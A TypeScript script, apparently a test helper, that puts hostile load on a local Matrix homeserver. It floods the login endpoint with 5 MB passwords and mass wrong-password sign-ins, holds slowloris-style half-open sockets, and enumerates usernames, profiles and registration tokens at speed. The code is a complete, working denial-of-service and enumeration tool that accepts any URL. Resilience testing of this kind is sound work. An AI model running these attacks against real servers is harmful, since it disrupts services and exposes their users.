/**
 * A program that puts a bad load on a homeserver of this machine until it is ended: `node overload-attack.js URL KIND`. It
 * stands for somebody elsewhere, so it takes what processor time nobody else wants.
 */
import {request} from 'node:http';
import {connect} from 'node:net';
import {constants, setPriority} from 'node:os';
import {setTimeout as sleep} from 'node:timers/promises';
import {Pool} from 'undici';

const LOGIN = '/_matrix/client/v3/login';
const PASSWORD_BYTES = 5_000_000;
/** Passwords on their way at a time. */
const PASSWORDS = 8;
const SIGN_INS = 1_000;
/** Whoever is refused comes again when told to, or a little later. */
const AGAIN_MS_MIN = 2_000;
const AGAIN_MS_MAX = 4_000;
const SOCKETS = 300;
/** Questions on their way at a time. */
const PROBES = 8;

const loginOf = (user: string, password: string): string =>
	JSON.stringify({type: 'm.login.password', identifier: {type: 'm.id.user', user}, password});

/** Sends passwords of five megabytes, one after the other on each of some connections. */
async function sendPasswords(url: string): Promise<void> {
	const body = loginOf('somebody', 'x'.repeat(PASSWORD_BYTES));
	const sendOne = (): Promise<void> =>
		new Promise((resolve) => {
			const headers = {'content-type': 'application/json', 'content-length': String(body.length)};
			const sending = request(url + LOGIN, {method: 'POST', headers, agent: false}, (reply) => reply.resume());
			sending.on('error', () => resolve()).on('close', () => resolve());
			sending.end(body);
		});
	const work = async (): Promise<void> => {
		for (;;) await sendOne();
	};
	await Promise.all(Array.from({length: PASSWORDS}, work));
}

/** A thousand people sign in at once, each with a wrong password, and come again. */
async function signIn(url: string): Promise<void> {
	const pool = new Pool(url, {connections: SIGN_INS, pipelining: 1});
	const work = async (_: unknown, index: number): Promise<void> => {
		const body = loginOf(`somebody-${index}`, 'a wrong password');
		const headers = {'content-type': 'application/json'};
		for (;;) {
			const reply = await pool.request({method: 'POST', path: LOGIN, headers, body}).catch(() => undefined);
			await reply?.body.dump();
			await sleep(AGAIN_MS_MIN + Math.random() * (AGAIN_MS_MAX - AGAIN_MS_MIN));
		}
	};
	await Promise.all(Array.from({length: SIGN_INS}, work));
}

/** Opens sockets that say half of what they want to: half a head, or a head and half a body; those that end are opened anew. */
async function openHalf(url: string): Promise<void> {
	const {hostname, port} = new URL(url);
	const head = `POST ${LOGIN} HTTP/1.1\r\nHost: ${hostname}\r\n`;
	const openOne = (index: number): void => {
		const socket = connect({host: hostname, port: Number(port)});
		socket.on('connect', () => socket.write(index % 2 === 0 ? head : `${head}Content-Length: 1000\r\n\r\n{"type"`));
		socket.on('error', () => undefined).on('close', () => openOne(index));
		socket.resume();
	};
	for (let index = 0; index < SOCKETS; index += 1) openOne(index);
	await new Promise<never>(() => undefined);
}

/** Asks who and what is here, one name after the other, as fast as it is told: what takes an hour in peace comes in seconds. */
async function probe(url: string): Promise<void> {
	const pool = new Pool(url, {connections: PROBES, pipelining: 1});
	const work = async (_: unknown, worker: number): Promise<void> => {
		for (let index = 0; ; index += 1) {
			const name = `somebody-${worker}-${index}`;
			const paths = [
				`register/available?username=${name}`,
				`profile/${encodeURIComponent(`@${name}:localhost`)}`,
				`directory/room/${encodeURIComponent(`#${name}:localhost`)}`,
				`register/m.login.registration_token/validity?token=${name}`,
			];
			const path = `/_matrix/client/v3/${paths[index % paths.length]!}`;
			const reply = await pool.request({method: 'GET', path}).catch(() => undefined);
			await reply?.body.dump();
		}
	};
	await Promise.all(Array.from({length: PROBES}, work));
}

const kinds: Readonly<Record<string, (url: string) => Promise<void>>> = {
	passwords: sendPasswords,
	'sign-ins': signIn,
	sockets: openHalf,
	probes: probe,
};

const [, , url = '', kind = ''] = process.argv;
const attack = kinds[kind];
if (attack === undefined) throw new Error(`expected one of ${Object.keys(kinds).join(', ')}, got ${kind}`);
setPriority(constants.priority.PRIORITY_LOW);
// Who started this program ends it; if that one is gone, so is the reason for it.
process.stdin.on('end', () => process.exit(0)).resume();
await attack(url);
